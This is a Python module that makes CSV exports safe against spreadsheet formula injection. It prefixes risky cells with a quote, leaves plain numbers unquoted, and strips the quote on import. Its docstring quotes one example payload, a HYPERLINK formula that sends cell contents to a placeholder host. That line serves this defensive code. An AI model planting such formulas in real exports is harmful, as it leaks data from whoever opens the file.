"""CSV that a spreadsheet opens as data: the one place dhrflow writes CSV, formula injection neutralised.

Excel, LibreOffice and Google Sheets take a cell starting ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can hide one. A progress note reading
``=HYPERLINK("http://x.invalid/?"&A1, "Open")`` would otherwise become a live formula in the
coordinator's spreadsheet, able to send other cells away. As OWASP advises, such a cell is written
with a single quote in front (``'=HYPERLINK(...)``), the spreadsheets' own mark for "this is text".
Every CSV export goes through ``Writer``/``DictWriter`` here (a test holds the other modules to it),
so no export can forget.

What a coordinator opening the file sees, decided case by case:

- Text starting with one of those characters is quoted even when it looks harmless: a plan's
  ``- brief officers`` reads ``'- brief officers``. Unquoted, a spreadsheet takes it as a formula
  and shows ``#NAME?`` in place of the words; quoted, every word is there (the quote may show).
- A plain number (``-3``, ``+44``, ``-12.5``) is written as it is: a spreadsheet reads it as that
  number and runs nothing, and a quote would turn a number into text that no longer sums.
  ``-2+3`` or ``+44 121 496 0000`` are not plain numbers and are quoted.
- Dates dhrflow writes are ISO (``2014-03-31``) and start with a digit: never quoted. A plan's own
  date text (``Sep-13``) is written as the plan has it; a spreadsheet reading that as a date runs
  no formula, and dhrflow does not second-guess it.

The quote comes off again: ``unescape`` removes exactly the one ``escape`` added (a cell that
already started with quotes before one of those characters gets one more), and the CSV importer
(``documents.read_csv``) applies it, so a CSV export read back holds the text that went out. The
decision log's hashes are of the text before quoting: remove the quote before checking the chain.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Literal, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
QUOTE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]+)?|\.[0-9]+)")


def _quoted(text: str) -> bool:
    """Whether ``escape`` puts a quote in front of ``text``: see the module's docstring."""
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(rest)


def escape(value: object) -> object:
    """``value`` as a cell a spreadsheet will not run; ``None`` and numbers pass as they are."""
    if not isinstance(value, str):
        return value if value is None or isinstance(value, int | float) else escape(str(value))
    return QUOTE + value if _quoted(value) else value


def unescape(cell: str) -> str:
    """``cell`` as it was before ``escape``: the one quote it added taken off, any other cell unchanged."""
    return cell[1:] if cell.startswith(QUOTE) and _quoted(cell[1:]) else cell


class Writer:
    """``csv.writer`` whose every cell goes through ``escape``.

    Rows end ``\r\n`` (RFC 4180), never another ending: ``csv`` quotes a cell holding a line break only
    when the break is in the row ending, and an unquoted carriage return splits the row in a spreadsheet.
    """

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([escape(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` whose every cell goes through ``escape``; keys outside ``fieldnames`` are ignored."""

    def __init__(
        self, out: TextIO, fieldnames: Sequence[str], *, extrasaction: Literal["ignore", "raise"] = "ignore"
    ) -> None:
        self._writer = csv.DictWriter(out, fieldnames=list(fieldnames), extrasaction=extrasaction)
        self.fieldnames = list(fieldnames)

    def writeheader(self) -> None:
        self.writerow(dict(zip(self.fieldnames, self.fieldnames, strict=True)))

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: escape(value) for key, value in row.items()})
